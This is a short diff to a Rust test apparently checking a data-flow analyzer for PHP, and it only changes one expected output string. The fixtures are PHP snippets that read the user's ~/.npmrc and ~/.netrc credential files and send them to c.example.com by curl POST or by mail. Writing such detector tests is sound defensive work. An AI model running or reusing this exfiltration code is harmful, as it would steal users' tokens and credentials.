@@ -71,7 +71,7 @@ fn closures_and_arguments_of_php_take_in() {
             ),
             (
                 "<?php $out = [];\narray_walk($files = [getenv('HOME') . '/.npmrc', getenv('HOME') . '/.netrc'], function ($f) use (&$out) { $out[] = file_get_contents($f); });\n$c = curl_init('https://c.example.com');\ncurl_setopt($c, CURLOPT_POSTFIELDS, serialize($out));\ncurl_exec($c);",
-                "contact https://c.example.com <- sensitive",
+                "contact sensitive file https://c.example.com <- sensitive",
             ),
             (
                 "<?php $all = array_map(fn($p) => file_get_contents($p), [getenv('HOME') . '/.netrc']);\nmail('a@c.example.com', 'x', implode($all));",
